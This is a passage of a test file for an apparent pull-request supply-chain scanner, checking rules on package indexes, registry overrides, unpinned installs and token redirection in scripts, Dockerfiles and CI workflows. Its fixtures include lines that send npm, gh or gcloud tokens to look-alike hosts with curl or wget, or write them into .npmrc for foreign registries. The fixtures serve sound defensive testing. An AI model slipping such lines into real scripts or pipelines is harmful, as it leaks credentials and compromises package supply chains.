    expect(scriptFindings('scripts/env.sh', [], ['cat > ~/.config/uv/uv.toml <<EOF', '[[index]]', 'url = "https://wheels.example.dev/simple"', 'EOF'], 'pip-extra-index')).toEqual(['medium scripts/env.sh:4']);
    // A key added to a here-document the file already had (its start is context).
    const patch = ['@@ -1,4 +1,5 @@', ' cat > ~/.pip/pip.conf <<EOF', ' [global]', '+extra-index-url = https://pkgs.example.dev/simple', ' timeout = 60', ' EOF'].join('\n');
    expect(scriptDownloadFindings(makeFile('scripts/setup.sh', { patch })).map((f) => `${f.id} ${f.severity} ${f.line}`)).toEqual(['pip-extra-index high 3']);
  });

  it('reads a key added far below its here-document\'s start in the whole head file, when the analysis fetched it', () => {
    const body = ['[global]', 'timeout = 60', 'retries = 5', 'no-cache-dir = true', 'disable-pip-version-check = true', 'progress-bar = off'];
    const base = ['#!/bin/sh', 'mkdir -p ~/.config/pip', 'cat > ~/.config/pip/pip.conf <<EOF', ...body, 'EOF', 'pip install -r requirements.txt'];
    const head = ['#!/bin/sh', 'mkdir -p ~/.config/pip', 'cat > ~/.config/pip/pip.conf <<EOF', ...body, 'extra-index-url = https://pkgs.build-cache.dev/simple', 'EOF', 'pip install -r requirements.txt'];
    // The hunk's three lines of context do not reach the `<<EOF` line (line 3); the key is line 10.
    const patch = ['@@ -7,4 +7,5 @@', ' no-cache-dir = true', ' disable-pip-version-check = true', ' progress-bar = off', '+extra-index-url = https://pkgs.build-cache.dev/simple', ' EOF', ' pip install -r requirements.txt'].join('\n');
    const file = makeFile('scripts/setup.sh', { patch });
    const ids = (content?: { base: string | null; head: string | null }) => scriptDownloadFindings(file, false, new Map(), content).map((f) => `${f.id} ${f.severity} ${f.line}`);
    expect(wantsHeredocContext('scripts/setup.sh', patch)).toBe(true);
    expect(ids({ base: base.join('\n'), head: head.join('\n') })).toEqual(['pip-extra-index high 10']);
    // Without the file, the hunk alone shows no here-document.
    expect(ids()).toEqual([]);
    // npm's registry in an .npmrc here-document, the same way.
    const npmHead = ['#!/bin/sh', 'cat > .npmrc <<EOF', 'fund=false', 'audit=false', 'save-exact=true', 'engine-strict=true', 'registry=https://registry.npmjs-cache.org/', 'EOF'];
    const npmPatch = ['@@ -4,4 +4,5 @@', ' audit=false', ' save-exact=true', ' engine-strict=true', '+registry=https://registry.npmjs-cache.org/', ' EOF'].join('\n');
    const npmBase = npmHead.filter((l) => !l.startsWith('registry='));
    expect(scriptDownloadFindings(makeFile('scripts/ci.sh', { patch: npmPatch }), false, new Map(), { base: npmBase.join('\n'), head: npmHead.join('\n') }).map((f) => `${f.id} ${f.severity} ${f.line}`)).toEqual(['npm-registry-override high 7']);
  });

  it('leaves a key the base file\'s here-document already wrote, a key outside any here-document, and files whose patch adds no such key', () => {
    const head = ['cat > pip.conf <<EOF', '[global]', 'timeout = 60', 'retries = 5', 'progress-bar = off', 'extra-index-url = https://pkgs.build-cache.dev/simple', 'EOF', 'echo done'];
    // The key moved down (the base wrote it too).
    const base = ['cat > pip.conf <<EOF', '[global]', 'extra-index-url = https://pkgs.build-cache.dev/simple', 'timeout = 60', 'retries = 5', 'progress-bar = off', 'EOF', 'echo done'];
    const patch = ['@@ -3,4 +3,4 @@', '-extra-index-url = https://pkgs.build-cache.dev/simple', ' timeout = 60', ' retries = 5', ' progress-bar = off', '+extra-index-url = https://pkgs.build-cache.dev/simple', ' EOF'].join('\n');
    expect(scriptDownloadFindings(makeFile('scripts/setup.sh', { patch }), false, new Map(), { base: base.join('\n'), head: head.join('\n') })).toEqual([]);
    // A here-document that writes a document, not a config.
    const notes = ['cat > NOTES.md <<EOF', 'Mirrors:', 'a', 'b', 'c', 'url = https://pkgs.build-cache.dev/simple', 'EOF'];
    const notesPatch = ['@@ -3,3 +3,4 @@', ' a', ' b', ' c', '+url = https://pkgs.build-cache.dev/simple', ' EOF'].join('\n');
    expect(scriptDownloadFindings(makeFile('scripts/notes.sh', { patch: notesPatch }), false, new Map(), { base: notes.filter((l) => !l.startsWith('url')).join('\n'), head: notes.join('\n') })).toEqual([]);
    expect(wantsHeredocContext('scripts/setup.sh', '@@ -1,1 +1,2 @@\n echo hi\n+echo done')).toBe(false);
    expect(wantsHeredocContext('src/app.py', '@@ -1,1 +1,2 @@\n x = 1\n+url = "https://example.com"')).toBe(false);
  });

  it('reports a registry token an added command hands to another registry (publish-token-redirect), high, in scripts, Makefiles and pipelines', () => {
    expect(scriptFindings('scripts/release.sh', ['npm publish'], ['echo "//npm.registry-cdn.dev/:_authToken=${NPM_TOKEN}" > .npmrc', 'npm publish --registry https://npm.registry-cdn.dev/'], 'publish-token-redirect')).toEqual(['high scripts/release.sh:2']);
    expect(scriptFindings('Makefile', [], ['release:', '\tcargo publish --index sparse+https://crates.rs-mirror.dev/index/ --token $(CARGO_REGISTRY_TOKEN)'], 'publish-token-redirect')).toEqual(['high Makefile:3']);
    expect(scriptFindings('Jenkinsfile', [], ["sh 'gem push --host https://gems.rubycentral-cdn.org pkg/*.gem -k $RUBYGEMS_API_KEY'"], 'publish-token-redirect')).toEqual(['high Jenkinsfile:2']);
    expect(scriptFindings('.gitlab-ci.yml', [], ['  - npm config set //registry.npmjs-cache.io/:_authToken "$NPM_TOKEN"'], 'publish-token-redirect')).toEqual(['high .gitlab-ci.yml:2']);
    // One report for the host: the token's, not also npm-registry-override's for the registry= line.
    const both = scriptDownloadFindings(makeFile('scripts/release.sh', { patch: patchOf([], ["printf 'registry=https://npm.registry-cdn.dev/\\n//npm.registry-cdn.dev/:_authToken=%s\\n' \"$NPM_TOKEN\" > .npmrc", 'npm publish']) }));
    expect(both.map((f) => `${f.id} ${f.severity}`)).toEqual(['publish-token-redirect high']);
    expect(scriptFindings('scripts/release.sh', [], ['twine upload --repository-url https://upload.pypi-mirror.dev/legacy/ -u __token__ -p "$PYPI_TOKEN" dist/*'], 'publish-token-redirect')).toEqual(['high scripts/release.sh:2']);
  });

  it('leaves the registries themselves, GitHub Packages, the machine itself, a private registry\'s own token, an install and what the base already did', () => {
    for (const lines of [
      ['echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc', 'npm publish'],
      ['echo "//npm.pkg.github.com/:_authToken=${NPM_TOKEN}" >> .npmrc', 'npm publish --registry https://npm.pkg.github.com'],
      ['echo "//localhost:4873/:_authToken=$NPM_TOKEN" >> .npmrc', 'npm publish --registry http://localhost:4873'],
      ['echo "//nexus.acme.dev/repository/npm/:_authToken=${NEXUS_NPM_TOKEN}" > .npmrc', 'npm publish'],
      ['npm install --registry https://registry.npmmirror.com', 'echo $NPM_TOKEN | wc -c'],
      ['cargo publish --token "$CARGO_REGISTRY_TOKEN"'],
      // A pipeline's YAML key naming a repository, beside a PyPI token used elsewhere: no upload there.
      ['  repository: https://gitlab.example.dev/acme/docs', '  - echo "$PYPI_TOKEN" | wc -c'],
    ]) expect(scriptFindings('scripts/release.sh', [], lines, 'publish-token-redirect'), lines.join(' ; ')).toEqual([]);
    const before = ['echo "//npm.registry-cdn.dev/:_authToken=${NPM_TOKEN}" > .npmrc', 'npm publish --registry https://npm.registry-cdn.dev/'];
    expect(scriptFindings('scripts/release.sh', before, [...before.slice(0, 1), 'npm publish --registry https://npm.registry-cdn.dev/ --tag next'], 'publish-token-redirect')).toEqual([]);
  });

  it('leaves a here-document the base already wrote, other files, PyPI, an auth-token line and values passed in alone', () => {
    const heredoc = ['cat > ~/.pip/pip.conf <<EOF', '[global]', 'extra-index-url = https://pkgs.example.dev/simple', 'EOF'];
    expect(scriptFindings('scripts/setup.sh', heredoc, heredoc.map((l) => l.replace('EOF', 'CONF')), 'pip-extra-index')).toEqual([]);
    expect(scriptFindings('scripts/setup.sh', [], ['cat > notes.md <<EOF', 'extra-index-url = https://pkgs.example.dev/simple', 'EOF'], 'pip-extra-index')).toEqual([]);
    expect(scriptFindings('scripts/setup.sh', [], ['cat > pip.conf <<EOF', 'index-url = https://pypi.org/simple', 'EOF'], 'pip-extra-index')).toEqual([]);
    expect(scriptFindings('scripts/release.sh', [], ['cat > ~/.npmrc <<EOF', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}', 'EOF'], 'npm-registry-override')).toEqual([]);
    expect(scriptFindings('scripts/setup.sh', [], ['cat > pip.conf <<EOF', 'extra-index-url = ${PRIVATE_INDEX}', 'EOF'], 'pip-extra-index')).toEqual([]);
  });
});

describe('remote-package-install and go-run-unpinned in Dockerfiles', () => {
  const docker = (content: string, path = 'Dockerfile') =>
    (extractDockerfile(content, path).findings ?? []).filter((f) => f.id === 'remote-package-install' || f.id === 'go-run-unpinned').map((f) => `${f.id} ${f.severity} ${f.line}`);

  it('reports RUN installs from a moving git ref or an unhashed URL, go install at @latest, and ADD without --checksum', () => {
    const content = [
      'FROM python:3.12-slim',
      'RUN apt-get update && \\',
      '    pip install --no-cache-dir \\',
      '      git+https://github.com/someone/pkg && \\',
      '    rm -rf /var/lib/apt/lists/*',
      'RUN go install example.com/tool@latest',
      'RUN npm install -g https://cdn.example.dev/cli.tgz',
      'ADD https://dl.example.dev/agent.tar.gz /opt/',
      'RUN pip install https://bit.ly/3xYzAbC',
    ].join('\n');
    expect(docker(content)).toEqual(['remote-package-install medium 4', 'go-run-unpinned medium 6', 'remote-package-install medium 7', 'remote-package-install medium 8', 'remote-package-install high 9']);
  });

  it('is quiet on ordinary and pinned Dockerfiles', () => {
    const content = [
      'FROM golang:1.23',
      'WORKDIR /src',
      'COPY . .',
      'RUN pip install -r requirements.txt',
      'RUN pip install --require-hashes -r requirements.lock',
      `RUN pip install git+https://github.com/someone/pkg@${SHA}`,
      'RUN go install ./cmd/...',
      'RUN go install example.com/tool@v1.2.3',
      'RUN npm ci && npm install -g pkg@1.2.3',
      `ADD --checksum=sha256:${HASH} https://dl.example.dev/agent.tar.gz /opt/`,
      'ADD . /app',
      '# RUN pip install git+https://github.com/someone/pkg',
    ].join('\n');
    expect(docker(content)).toEqual([]);
  });

  it("reads a RUN's shell here-document, at the line of the install; not another interpreter's, nor a COPY's", () => {
    const content = ['# syntax=docker/dockerfile:1', 'FROM python:3.12-slim', 'RUN <<EOF', 'set -eux', 'apt-get update', 'pip install \\', '  git+https://github.com/someone/pkg@main', 'EOF', 'COPY <<EOF /etc/pip.conf', '[global]', 'RUN pip install git+https://github.com/someone/other', 'EOF', 'RUN python3 <<EOF', 'import subprocess', 'print("pip install git+https://github.com/someone/third")', 'EOF', 'CMD ["app"]'].join('\n');
    expect(docker(content)).toEqual(['remote-package-install medium 7']);
  });

  it('reports a package index a RUN, ENV or ARG gives pip, and a requirements list from a URL', () => {
    const indexes = (content: string) => (extractDockerfile(content, 'Dockerfile').findings ?? []).filter((f) => f.id === 'pip-extra-index' || f.id === 'remote-package-install').map((f) => `${f.id} ${f.severity} ${f.line}`);
    expect(indexes('FROM python:3.12-slim\nRUN pip install --no-cache-dir \\\n  --extra-index-url https://pkgs.example.dev/simple flask==3.0.0\n')).toEqual(['pip-extra-index high 3']);
    expect(indexes('FROM python:3.12-slim\nENV PIP_INDEX_URL=https://pypi.example.dev/simple\nARG PIP_EXTRA_INDEX_URL=https://pkgs.example.dev/simple\nENV UV_INDEX https://uv.example.dev/simple\n')).toEqual([
      'pip-extra-index medium 2',
      'pip-extra-index high 3',
      'pip-extra-index medium 4',
    ]);
    expect(indexes('FROM python:3.12-slim\nRUN pip install -r https://example.dev/reqs.txt\n')).toEqual(['remote-package-install medium 2']);
    const registries = (content: string) => (extractDockerfile(content, 'Dockerfile').findings ?? []).filter((f) => f.id === 'npm-registry-override').map((f) => `${f.severity} ${f.line}`);
    expect(registries('FROM node:22-slim\nENV NPM_CONFIG_REGISTRY=https://registry.npm-cache.dev/\nRUN npm ci --registry https://registry.npmjs-mirror.org/\n')).toEqual(['medium 2', 'high 3']);
    expect(registries('FROM node:22-slim\nARG NPM_CONFIG_REGISTRY\nRUN npm ci && npm publish --registry https://npm.pkg.github.com\n')).toEqual([]);
    expect(indexes('FROM python:3.12-slim\nARG PIP_INDEX_URL\nENV PIP_NO_CACHE_DIR=1 PIP_INDEX_URL=${PIP_INDEX_URL}\nRUN pip install -i https://pypi.org/simple -r requirements.txt\n')).toEqual([]);
  });

  it("reads the index a RUN's or a COPY's here-document writes into pip's or uv's config, and uv's variables under an unsafe strategy", () => {
    const indexes = (content: string) => (extractDockerfile(content, 'Dockerfile').findings ?? []).filter((f) => f.id === 'pip-extra-index').map((f) => `${f.severity} ${f.line}`);
    expect(indexes(['# syntax=docker/dockerfile:1', 'FROM python:3.12-slim', 'RUN cat <<EOF > /etc/pip.conf', '[global]', 'extra-index-url = https://pkgs.example.dev/simple', 'EOF'].join('\n'))).toEqual(['high 5']);
    expect(indexes(['FROM python:3.12-slim', 'COPY <<EOF /root/.config/uv/uv.toml', 'index-url = "https://pypi.example.dev/simple"', 'EOF'].join('\n'))).toEqual(['medium 3']);
    expect(indexes('FROM python:3.12-slim\nENV UV_EXTRA_INDEX_URL=https://pkgs.example.dev/simple\nENV UV_INDEX_STRATEGY=unsafe-best-match\n')).toEqual(['high 2']);
    expect(indexes('FROM python:3.12-slim\nENV UV_EXTRA_INDEX_URL=https://pkgs.example.dev/simple\n')).toEqual(['medium 2']);
    expect(indexes(['FROM python:3.12-slim', 'COPY <<EOF /etc/pip.conf', '[global]', 'index-url = https://pypi.org/simple', 'timeout = 60', 'EOF', 'COPY <<EOF /app/notes.txt', 'extra-index-url = https://pkgs.example.dev/simple', 'EOF'].join('\n'))).toEqual([]);
  });

  it('lowers @latest in a development container image; an ADD another rule reports is not repeated', () => {
    expect(docker('FROM mcr.microsoft.com/devcontainers/go:1\nRUN go install golang.org/x/tools/gopls@latest\n', '.devcontainer/Dockerfile')).toEqual(['go-run-unpinned low 2']);
    const run = extractDockerfile('FROM alpine:3.20\nADD https://get.devtool-cdn.dev/install.sh /tmp/\nRUN sh /tmp/install.sh\n', 'Dockerfile').findings ?? [];
    expect(run.map((f) => f.id).filter((id) => id !== 'docker-unpinned-image')).toEqual(['curl-pipe-shell']);
  });
});

describe('gha-unpinned-tool for a URL install, and the own organization', () => {
  const wf = (run: string) => `name: CI\non: [push]\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    env:\n      TOKEN: \${{ secrets.DEPLOY_TOKEN }}\n    steps:\n      - run: ${run}\n`;
  const found = (run: string) => (extractWorkflow(wf(run), '.github/workflows/ci.yml').findings ?? []).filter((f) => f.id === 'gha-unpinned-tool').map((f) => `${f.severity} ${f.line}`);
  it('reports a run: step that installs from a URL without a hash, not a hashed or registry one', () => {
    expect(found('pip install https://dl.example.dev/helper.tar.gz')).toEqual(['medium 11']);
    expect(found('npm install -g http://dl.example.dev/cli.tgz')).toEqual(['high 11']);
    expect(found('pip install https://dl.example.dev/helper-1.2.0.tar.gz')).toEqual(['low 11']);
    expect(found(`pip install https://dl.example.dev/helper.tar.gz#sha256=${HASH}`)).toEqual([]);
    expect(found('pip install helper==1.2.0')).toEqual([]);
  });

  it("reports npx's `-p` from GitHub, go get without a version, and the indexes a step or an env: gives pip", () => {
    expect(found('npx -p someone/tool tool --fix')).toEqual(['medium 11']);
    expect(found('go get github.com/someone/tool')).toEqual(['medium 11']);
    expect(found('npx -p typescript@5.6.3 tsc')).toEqual([]);
    const indexes = (content: string) => (extractWorkflow(content, '.github/workflows/ci.yml').findings ?? []).filter((f) => f.id === 'pip-extra-index').map((f) => `${f.severity} ${f.line}`);
    expect(indexes(wf('pip install --extra-index-url https://pkgs.example.dev/simple internal-utils'))).toEqual(['high 11']);
    expect(indexes(wf('pip install -r requirements.txt').replace('    env:\n', '    env:\n      PIP_INDEX_URL: https://pypi.example.dev/simple\n'))).toEqual(['medium 9']);
    expect(indexes(wf('pip install --index-url "${{ vars.INDEX }}" tool'))).toEqual([]);
    // uv's variables mix with PyPI under an unsafe strategy set beside them; a here-document writes uv.toml.
    expect(indexes(wf('uv sync').replace('    env:\n', '    env:\n      UV_EXTRA_INDEX_URL: https://pkgs.example.dev/simple\n      UV_INDEX_STRATEGY: unsafe-best-match\n'))).toEqual(['high 9']);
    expect(indexes(wf('|\n          cat > uv.toml <<EOF\n          [[index]]\n          url = "https://pkgs.example.dev/simple"\n          EOF'))).toEqual(['medium 14']);
    const registries = (content: string) => (extractWorkflow(content, '.github/workflows/ci.yml').findings ?? []).filter((f) => f.id === 'npm-registry-override').map((f) => `${f.severity} ${f.line}`);
    expect(registries(wf('npm ci --registry https://registry.npm-cache.dev/'))).toEqual(['medium 11']);
    expect(registries(wf('npm ci').replace('    env:\n', '    env:\n      NPM_CONFIG_REGISTRY: https://registry.npm-cache.dev/\n'))).toEqual(['medium 9']);
    expect(registries(wf('npm publish --registry https://npm.pkg.github.com'))).toEqual([]);
  });

  it("lowers a build's install from the repository's own organization to low", () => {
    const findings = extractDockerfile('FROM python:3.12\nRUN pip install git+https://github.com/Acme/helper@main\n', 'Dockerfile').findings ?? [];
    expect(lowerOwnOrganization(findings, 'acme').filter((f) => f.id === 'remote-package-install').map((f) => f.severity)).toEqual(['low']);
    expect(lowerOwnOrganization(findings, 'octo-org').filter((f) => f.id === 'remote-package-install').map((f) => f.severity)).toEqual(['medium']);
    // `npx -p <owner>/tool` in a workflow: the organization's own tool is dropped, another's kept.
    const npx = extractWorkflow(wf('npx -p Acme/fmt fmt --check . && npx -p github:someone/lint lint'), '.github/workflows/ci.yml').findings ?? [];
    expect(lowerOwnOrganization(npx, 'acme').filter((f) => f.id === 'gha-unpinned-tool').map((f) => f.package)).toEqual(['someone/lint']);
    // A look-alike host is not the organization's.
    const lookalike = extractDockerfile('FROM python:3.12\nRUN pip install git+https://evilgithub.com/acme/helper@main\n', 'Dockerfile').findings ?? [];
    expect(lowerOwnOrganization(lookalike, 'acme').filter((f) => f.id === 'remote-package-install').map((f) => f.severity)).toEqual(['medium']);
  });
});

describe('remote-package-install in package scripts', () => {
  const found = (base: Record<string, string> | null, head: Record<string, string>) =>
    analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
      .findings.filter((f) => f.id === 'remote-package-install')
      .map((f) => `${f.severity} ${f.line}`);
  it('reports a script the PR adds that installs from a URL without a hash or a moving git ref', () => {
    expect(found({ test: 'vitest' }, { test: 'vitest', postinstall: 'npm install -g https://cdn.example.dev/helper.tgz' })).toHaveLength(1);
    expect(found({ test: 'vitest' }, { test: 'vitest', setup: 'pip install git+http://198.51.100.7/helper' })[0]).toMatch(/^high /);
  });
  it('leaves a script the base had, and registry or pinned installs, alone', () => {
    expect(found({ postinstall: 'npm install -g https://cdn.example.dev/helper.tgz' }, { postinstall: 'npm install -g https://cdn.example.dev/helper.tgz && echo ok', test: 'vitest' })).toEqual([]);
    expect(found({ test: 'vitest' }, { test: 'vitest', tools: `npm install -g typescript@5.6.3 && pip install git+https://github.com/someone/pkg@${SHA}` })).toEqual([]);
  });
});

describe('a crates.io token given to an alternative registry the PR names in .cargo/config.toml', () => {
  const config = (index: string) => `[registries.fast]\nindex = "${index}"\n`;
  const workflow = (...steps: string[]) => ['name: release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', ...steps, ''].join('\n');
  /** A change whose patch removes every base line and adds every head line (the checks read the added lines). */
  const diffed = (path: string, base: string | null, head: string): ReturnType<typeof change> => {
    const c = change(path, base, head);
    const removed = base === null ? [] : base.replace(/\n$/, '').split('\n');
    const added = head.replace(/\n$/, '').split('\n');
    const patch = [`@@ -${removed.length === 0 ? 0 : 1},${removed.length} +1,${added.length} @@`, ...removed.map((l) => `-${l}`), ...added.map((l) => `+${l}`)].join('\n');
    return { ...c, files: c.files.map((f) => ({ ...f, patch })) };
  };
  const found = (...changes: ReturnType<typeof change>[]) =>
    analyze(snapshotOf(...changes))
      .findings.filter((f) => /registry/.test(f.title) && (f.id === 'publish-token-redirect' || f.id === 'gha-secrets-exfiltration'))
      .map((f) => `${f.id} ${f.severity} ${f.path}:${f.line}`);
  it('reads `cargo publish --registry NAME` as a publish to the index the PR gives NAME: in a workflow, a script or a Makefile, by --token or CARGO_REGISTRIES_<NAME>_TOKEN', () => {
    const cfg = diffed('.cargo/config.toml', null, config('sparse+https://crates.fast-mirror.dev/index/'));
    expect(found(cfg, diffed('.github/workflows/release.yml', null, workflow('      - run: cargo publish --registry fast --token ${{ secrets.CARGO_REGISTRY_TOKEN }}')))).toEqual(['gha-secrets-exfiltration high .github/workflows/release.yml:10']);
    expect(found(cfg, diffed('.github/workflows/release.yml', null, workflow('      - run: cargo publish --registry fast', '        env:', '          CARGO_REGISTRIES_FAST_TOKEN: ${{ secrets.CARGO_REGISTRY_TOKEN }}')))).toEqual(['gha-secrets-exfiltration high .github/workflows/release.yml:10']);
    expect(found(cfg, diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry fast --token "$CARGO_REGISTRY_TOKEN"\n'))).toEqual(['publish-token-redirect high scripts/publish.sh:2']);
    expect(found(cfg, diffed('Makefile', 'test:\n\tcargo test\n', 'test:\n\tcargo test\nrelease:\n\tcargo publish --registry=fast --token $(CARGO_REGISTRY_TOKEN)\n'))).toEqual(['publish-token-redirect high Makefile:4']);
    // The release workflow unchanged in the base: the PR re-points the index alone.
    const repointed = diffed('.cargo/config.toml', config('sparse+https://index.crates.io/'), config('sparse+https://crates.fast-mirror.dev/index/'));
    const releaseWorkflow = workflow('      - run: cargo publish --registry fast --token ${{ secrets.CARGO_REGISTRY_TOKEN }}');
    expect(analyze({ ...snapshotOf(repointed), baseFiles: [{ path: '.github/workflows/release.yml', content: releaseWorkflow }] }).findings.filter((f) => f.id === 'gha-secrets-exfiltration').map((f) => `${f.severity} ${f.path}:${f.line}`)).toEqual(['high .github/workflows/release.yml:10']);
    // Not when the index stays where it was, nor for the base's private registry with its own token.
    expect(analyze({ ...snapshotOf(diffed('.cargo/config.toml', config('sparse+https://crates.fast-mirror.dev/index/'), `${config('sparse+https://crates.fast-mirror.dev/index/')}[net]\nretry = 3\n`)), baseFiles: [{ path: '.github/workflows/release.yml', content: releaseWorkflow }] }).findings.filter((f) => f.id === 'gha-secrets-exfiltration')).toEqual([]);
    expect(analyze({ ...snapshotOf(repointed), baseFiles: [{ path: '.github/workflows/release.yml', content: workflow('      - run: cargo publish --registry fast --token ${{ secrets.FAST_MIRROR_TOKEN }}') }] }).findings.filter((f) => f.id === 'gha-secrets-exfiltration')).toEqual([]);
    // The index re-pointed by the PR counts as well.
    expect(found(diffed('.cargo/config.toml', config('sparse+https://cargo.acme.dev/index/'), config('sparse+https://crates.fast-mirror.dev/index/')), diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry fast --token "$CARGO_REGISTRY_TOKEN"\n'))).toHaveLength(1);
  });
  it('leaves a private registry with its own token, a registry the PR does not change, crates.io\'s token only in the environment, and an index on crates.io', () => {
    const cfg = diffed('.cargo/config.toml', null, config('sparse+https://crates.fast-mirror.dev/index/'));
    expect(found(diffed('.cargo/config.toml', null, '[registries.acme]\nindex = "sparse+https://cargo.acme.dev/index/"\n'), diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry acme --token "$ACME_CARGO_TOKEN"\n'))).toEqual([]);
    expect(found(diffed('.cargo/config.toml', config('sparse+https://crates.fast-mirror.dev/index/'), `${config('sparse+https://crates.fast-mirror.dev/index/')}[net]\nretry = 3\n`), diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry fast --token "$CARGO_REGISTRY_TOKEN"\n'))).toEqual([]);
    expect(found(cfg, diffed('.github/workflows/release.yml', null, workflow('      - run: cargo publish --registry fast', '        env:', '          CARGO_REGISTRY_TOKEN: ${{ secrets.CARGO_REGISTRY_TOKEN }}')))).toEqual([]);
    expect(found(diffed('.cargo/config.toml', null, config('sparse+https://index.crates.io/')), diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry fast --token "$CARGO_REGISTRY_TOKEN"\n'))).toEqual([]);
    expect(found(cfg, diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry faster --token "$CARGO_REGISTRY_TOKEN"\n'))).toEqual([]);
  });
});

describe('publish-token-redirect across files: a workflow of the base holds the token, the PR changes what it runs', () => {
  const workflow = (run: string, secret: string) => ['name: release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', `      - run: ${run}`, '        env:', `          NODE_AUTH_TOKEN: \${{ secrets.${secret} }}`, ''].join('\n');
  const withPatch = (c: ReturnType<typeof change>, added: string[]): ReturnType<typeof change> => ({ ...c, files: c.files.map((f) => ({ ...f, patch: [`@@ -0,0 +1,${added.length} @@`, ...added.map((l) => `+${l}`)].join('\n') })) });
  const found = (base: Record<string, string>, head: Record<string, string>, run: string, secret: string, ...more: ReturnType<typeof change>[]) => {
    const snapshot = snapshotOf(change('package.json', pkg({ scripts: base }), pkg({ scripts: head })), ...more);
    return analyze({ ...snapshot, baseFiles: [{ path: '.github/workflows/release.yml', content: workflow(run, secret) }] })
      .findings.filter((f) => f.id === 'publish-token-redirect')
      .map((f) => `${f.severity} ${f.path}:${f.line}`);
  };
  it('reports a script the base workflow runs with the npm token in NODE_AUTH_TOKEN, changed to write the auth line for another host, or a file it runs changed so', () => {
    expect(found({ release: 'npm publish' }, { release: 'echo "//npm.registry-cache.dev/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish' }, 'npm run release', 'NPM_TOKEN')).toEqual(['high package.json:5']);
    expect(found({ build: 'tsc' }, { build: 'tsc', prepublishOnly: 'npm config set //npm.registry-cache.dev/:_authToken "$NODE_AUTH_TOKEN"' }, 'npm ci && npm publish', 'NPM_TOKEN')).toHaveLength(1);
    const script = withPatch(change('scripts/release.mjs', null, 'x'), ["writeFileSync('.npmrc', `//npm.registry-cache.dev/:_authToken=${process.env.NODE_AUTH_TOKEN}\\n`);"]);
    expect(found({ release: 'npm publish' }, { release: 'node scripts/release.mjs && npm publish' }, 'yarn release', 'NPM_PUBLISH_TOKEN', script)).toEqual(['high scripts/release.mjs:1']);
  });
  it('leaves a private registry given its own secret, a script the workflow does not run, and a host the base script already had', () => {
    expect(found({ release: 'npm publish' }, { release: 'echo "//npm.registry-cache.dev/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish' }, 'npm run release', 'ACME_REGISTRY_TOKEN')).toEqual([]);
    expect(found({ release: 'npm publish' }, { release: 'npm publish', stage: 'echo "//npm.registry-cache.dev/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc' }, 'npm run release', 'NPM_TOKEN')).toEqual([]);
    const before = 'echo "//npm.registry-cache.dev/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish';
    expect(found({ release: before }, { release: `${before} --tag next` }, 'npm run release', 'NPM_TOKEN')).toEqual([]);
  });
  it('asks for the base workflows when a patch adds an npm auth line or re-points a cargo index', () => {
    expect(releaseWorkflowsWanted('package.json', '@@ -1 +1 @@\n+    "release": "echo //h.dev/:_authToken=$T > .npmrc"')).toBe(true);
    expect(releaseWorkflowsWanted('.cargo/config.toml', '@@ -1 +1 @@\n-index = "a"\n+index = "sparse+https://crates.fast-mirror.dev/index/"')).toBe(true);
    expect(releaseWorkflowsWanted('.cargo/config.toml', '@@ -1 +1 @@\n+[net]\n+retry = 3')).toBe(false);
    expect(releaseWorkflowsWanted('package.json', '@@ -1 +1 @@\n+    "test": "vitest"')).toBe(false);
  });
});

describe('suspicious-network-endpoint in package scripts: a token sent as data to another host', () => {
  const found = (base: Record<string, string> | null, head: Record<string, string>) =>
    analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
      .findings.filter((f) => f.id === 'suspicious-network-endpoint')
      .map((f) => `${f.severity} ${f.title}`);
  it('reports a script the PR adds or changes that posts a registry token, or puts it in a URL, for another host', () => {
    expect(found({ test: 'vitest' }, { test: 'vitest', postpublish: 'curl -s -X POST https://stats.pkg-insights.dev/publish -d "k=$NODE_AUTH_TOKEN"' })).toEqual(['high Script "postpublish" sends a secret named for another service to a host']);
    expect(found({ release: 'npm publish' }, { release: 'npm publish && wget -qO- "https://hooks.release-notify.dev/v1?t=${NPM_TOKEN}"' })).toHaveLength(1);
  });
  it('leaves a token given to its own service or as a header, a script the base had, and a request carrying no token', () => {
    expect(found({ test: 'vitest' }, { test: 'vitest', coverage: 'curl -s https://codecov.io/upload -d "token=$CODECOV_TOKEN"', notify: 'curl -H "Authorization: Bearer $NPM_TOKEN" -d @meta.json https://stats.pkg-insights.dev/' })).toEqual([]);
    const ping = { postpublish: 'curl -s -d "k=$NODE_AUTH_TOKEN" https://stats.pkg-insights.dev/' };
    expect(found(ping, { ...ping, test: 'vitest' })).toEqual([]);
    expect(found({ test: 'vitest' }, { test: 'vitest', postpublish: 'curl -s -X POST -d "v=$npm_package_version" https://stats.pkg-insights.dev/publish' })).toEqual([]);
  });
});

describe('suspicious-network-endpoint in package scripts: a credential helper\'s output sent to another host', () => {
  const found = (head: Record<string, string>) =>
    analyze(snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest' } }), pkg({ scripts: { test: 'vitest', ...head } }))))
      .findings.filter((f) => f.id === 'suspicious-network-endpoint')
      .map((f) => `${f.severity} ${f.title}`);
  it('reports the token of gh, gcloud or aws kept in a variable and sent as data, or put on the sending command', () => {
    expect(found({ release: 'T=$(gh auth token) && npm run build && curl -s -d "t=$T" https://stats.pkg-insights.dev/r' })).toEqual(['high Script "release" sends a secret named for another service to a host']);
    expect(found({ deploy: 'node build.js && curl -s --data "$(gcloud auth print-access-token)" https://stats.pkg-insights.dev/' })).toHaveLength(1);
